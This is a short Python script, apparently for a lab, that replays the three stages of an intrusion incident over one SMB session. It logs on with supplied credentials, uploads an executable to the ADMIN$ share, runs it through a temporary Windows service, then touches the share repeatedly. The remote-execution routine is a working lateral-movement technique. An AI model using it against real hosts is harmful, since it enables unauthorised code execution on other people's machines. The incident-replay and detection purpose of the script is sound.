"""One SMB session, three stages, a pause between them.

usage: three_stages.py TARGET USER PASSWORD EXE PAUSE_SECONDS
Log on; run a program; open the admin share again and again: the stages are the three legs of the
CM0062 incident. Recorded with a short pause, then stretched by stretch.py. The execution stage
opens as little as it can: one admin tree, one file, one pipe.
"""
import io
import random
import sys
import time

from impacket.dcerpc.v5 import scmr, transport
from impacket.smbconnection import SMBConnection

SERVICE, FILE = "LabSvc", "EwLabSvc.exe"
OPENS = 6


def run_program(smb: SMBConnection, target: str, exe: bytes) -> None:
    smb.putFile("ADMIN$", FILE, io.BytesIO(exe).read)
    rpc = transport.SMBTransport(target, filename=r"\svcctl", smb_connection=smb).get_dce_rpc()
    rpc.connect()
    rpc.bind(scmr.MSRPC_UUID_SCMR)
    manager = scmr.hROpenSCManagerW(rpc)["lpScHandle"]
    service = scmr.hRCreateServiceW(rpc, manager, SERVICE + "\0", SERVICE + "\0",
                                    lpBinaryPathName=f"%systemroot%\\{FILE}\0",
                                    dwStartType=scmr.SERVICE_DEMAND_START)["lpServiceHandle"]
    scmr.hRStartServiceW(rpc, service)
    scmr.hRDeleteService(rpc, service)
    scmr.hRCloseServiceHandle(rpc, service)
    scmr.hRCloseServiceHandle(rpc, manager)
    rpc.disconnect()


def open_repeatedly(smb: SMBConnection) -> None:
    for number in range(OPENS):
        smb.putFile("ADMIN$", f"stage{number}.log", io.BytesIO(b"stage\r\n").read)
        smb.getFile("ADMIN$", f"stage{number}.log", lambda data: None)
    smb.deleteFile("ADMIN$", FILE)


def main() -> None:
    target, user, password, exe_path, pause = sys.argv[1:6]
    random.seed(12)
    with open(exe_path, "rb") as file:
        exe = file.read()
    smb = SMBConnection(target, target)
    smb.login(user, password, "CORP")
    time.sleep(float(pause))
    run_program(smb, target, exe)
    time.sleep(float(pause))
    open_repeatedly(smb)
    smb.logoff()


if __name__ == "__main__":
    main()
